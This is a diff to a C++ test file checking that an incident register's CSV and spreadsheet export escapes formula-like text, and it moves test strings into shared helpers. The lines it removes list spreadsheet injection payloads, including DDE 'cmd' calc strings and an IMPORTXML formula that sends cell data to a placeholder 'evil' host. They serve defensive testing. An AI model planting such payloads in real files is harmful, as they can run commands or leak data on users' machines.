@@ -7,14 +7,18 @@
 #include <nlohmann/json.hpp>
 
 #include "engine/core/json.h"
+#include "engine/core/spreadsheet_cell.h"
 #include "engine/papers/board.h"
 #include "engine/papers/pdf.h"
 #include "engine/papers/text.h"
 #include "engine/papers/war_room.h"
 #include "tests/catch.h"
+#include "tests/fakes/csv_cells.h"
+#include "tests/fakes/formulas.h"
 
 using namespace tocsin;
 using namespace tocsin::papers;
+using tests::cells_of;
 
 namespace {
 
@@ -46,23 +50,6 @@ Register sample() {
     return all;
 }
 
-/// The cells of a CSV as RFC 4180 has them.
-std::vector<std::vector<std::string>> cells_of(const std::string& csv) {
-    std::vector<std::vector<std::string>> out(1, std::vector<std::string>(1));
-    bool inside = false;
-    for (std::size_t i = 0; i < csv.size(); ++i) {
-        const char c = csv[i];
-        if (inside && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') out.back().back() += csv[++i];
-        else if (c == '"') inside = !inside;
-        else if (!inside && c == ',') out.back().emplace_back();
-        else if (!inside && c == '\r' && i + 1 < csv.size() && csv[i + 1] == '\n') ++i, out.emplace_back(1, std::string());
-        else out.back().back() += c;
-    }
-    REQUIRE_FALSE(inside);
-    out.pop_back();
-    return out;
-}
-
 /// The sheet inside a workbook, by unzip.
 std::string part_of(const std::string& xlsx, const std::string& part) {
     std::string path = (std::filesystem::temp_directory_path() / "register-test-XXXXXX").string();
@@ -83,9 +70,7 @@ std::string part_of(const std::string& xlsx, const std::string& part) {
 }  // namespace
 
 SCENARIO("no cell of the register runs in a spreadsheet", "[papers][register]") {
-    for (const std::string text : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\"=1", "'=1", "\u00A0=1", "\uFEFF=1", "\u200B=1",
-                                   "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201", "=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "|calc", "%0A=1",
-                                   "=IMPORTXML(CONCAT(\"http://evil\",A1))", "-2+3+cmd|' /C calc'!A0", ";=1", ",=1", "\u3000=1", "\"\"=1", "\t"}) {
+    for (const std::string& text : tests::formulas()) {
         INFO(text);
         CHECK(harmless(text).front() == '\'');
     }
@@ -94,6 +79,22 @@ SCENARIO("no cell of the register runs in a spreadsheet", "[papers][register]") 
         CHECK(harmless(text) == text);
     }
     CHECK(harmless(std::string("a\0b\x1b", 4)) == "ab");
+}
+
+SCENARIO("no text of an incident leaves in the register's CSV as a formula", "[papers][register]") {
+    Register all;
+    for (const auto& text : tests::formulas()) {
+        all.rows.push_back(row("inc_1", text));
+        all.rows.back().facts = all.rows.back().suppliers = text;
+    }
+    all.seen_by = all.not_in_it = "=1";
+    const auto cells = cells_of(to_csv(all));
+    REQUIRE(cells.size() == tests::formulas().size() + 1);
+    for (const auto& line : cells)
+        for (const auto& cell : line) {
+            INFO(cell);
+            CHECK((cell.starts_with('\'') || !may_run(cell)));
+        }
 }
 
 SCENARIO("the register as CSV has every incident in the cells of RFC 4180", "[papers][register]") {
